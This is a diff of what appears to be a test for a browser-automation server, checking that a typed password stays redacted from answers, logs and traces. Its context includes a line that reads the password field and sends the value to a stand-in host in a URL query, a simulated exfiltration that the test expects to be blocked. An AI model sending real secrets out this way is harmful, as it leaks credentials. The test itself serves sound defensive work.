@@ -87,6 +87,7 @@ test('A secret is shown nowhere: answers, files, logs, the record, its history a
   await call('browser_evaluate', { function: "() => document.querySelector('#password').value" });
   // Whoever knows it anyhow cannot make the server tell it on.
   await call('browser_navigate', { url: `http://blocked.test/?p=${encodeURIComponent(value)}` });
+  await call('browser_press_key', { key: 'x' });
   await call('browser_stop_tracing');
   assert.match(answers.map(({ text }) => text).join('\n'), /<secret>PASSWORD<\/secret>/);
 
@@ -109,6 +110,7 @@ test('A secret is shown nowhere: answers, files, logs, the record, its history a
   const log = places[Object.keys(places).find(name => name.endsWith('server.log'))];
   assert.doesNotMatch(log, /dispatchKeyEvent[^\n]*params/);
   assert.match(log, /dispatchKeyEvent/);
+  assert.match(log, /message="?troupe\.typeConfined"?$/m);
   assert.match(log, /callFunctionOn[^\n]*\*\*\*/, 'it was in the log, and hidden');
 });
 
